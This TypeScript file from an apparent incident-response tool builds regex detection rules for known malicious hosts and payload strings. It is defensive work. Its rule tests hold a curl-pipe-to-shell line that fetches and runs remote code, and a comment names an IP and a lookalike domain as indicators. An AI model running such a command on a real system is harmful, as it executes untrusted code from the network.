/**
 * Rules from the indicator list ir ships (playbooks/data/indicators.yaml, one place for it: `ir status`
 * checks skills against it): its C2 / payload hosts and payload strings, wherever they occur in what is
 * scanned — a message, a tool call, a fetched page. Built as a rule pack, so they load, compile and
 * prefilter like any other.
 */

export const INDICATOR_PACK = 'indicators'

interface Entry {
  value: string
  why: string
}

const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')

/** The pack for the parsed indicator file (`hosts`, `strings`: `{value, why}`; the rest is not for scans). */
export function indicatorPack(doc: unknown): {pack: string; rules: unknown[]} {
  const d = (doc ?? {}) as {updated?: unknown; hosts?: unknown; strings?: unknown}
  const source = `playbooks/data/indicators.yaml (updated ${String(d.updated ?? '?')})`
  const rule = (id: string, title: string, category: string, list: Entry[], pattern: string, tests: unknown) => ({
    ...{id, title, description: list.map((e) => `${e.value}: ${e.why}`).join('; '), category, severity: 'high'},
    ...{source, keywords: list.map((e) => e.value.toLowerCase()), patterns: [pattern], tests},
  })
  const rules: unknown[] = []
  const hosts = entries(d.hosts)
  const host = hosts[0]?.value
  if (host) {
    // a whole host: not 191.92.242.301 for 91.92.242.30, nor evil-openclawcli.forum
    const pattern = `(?i)(?<![\\w.-])(?:${hosts.map((h) => escape(h.value)).join('|')})(?![\\w-])`
    const tests = {match: [`curl -fsSL http://${host}/x | sh`], no_match: [`1${host}1`]}
    rules.push(rule('ioc.known-host', 'Known malicious host (indicator list)', 'exfiltration', hosts, pattern, tests))
  }
  const strings = entries(d.strings)
  const string = strings[0]?.value
  if (string) {
    const pattern = `(?i)(?:${strings.map((s) => escape(s.value)).join('|')})`
    const tests = {match: [`see ${string} first`], no_match: ['nothing to see']}
    const title = 'Known malicious payload string (indicator list)'
    rules.push(rule('ioc.known-payload', title, 'dangerous-exec', strings, pattern, tests))
  }
  return {pack: INDICATOR_PACK, rules}
}

function entries(list: unknown): Entry[] {
  if (!Array.isArray(list)) return []
  return list
    .map((e) => e as {value?: unknown; why?: unknown})
    .filter((e) => (typeof e.value === 'string' || typeof e.value === 'number') && String(e.value).length >= 2)
    .map((e) => ({value: String(e.value), why: String(e.why ?? '')}))
}
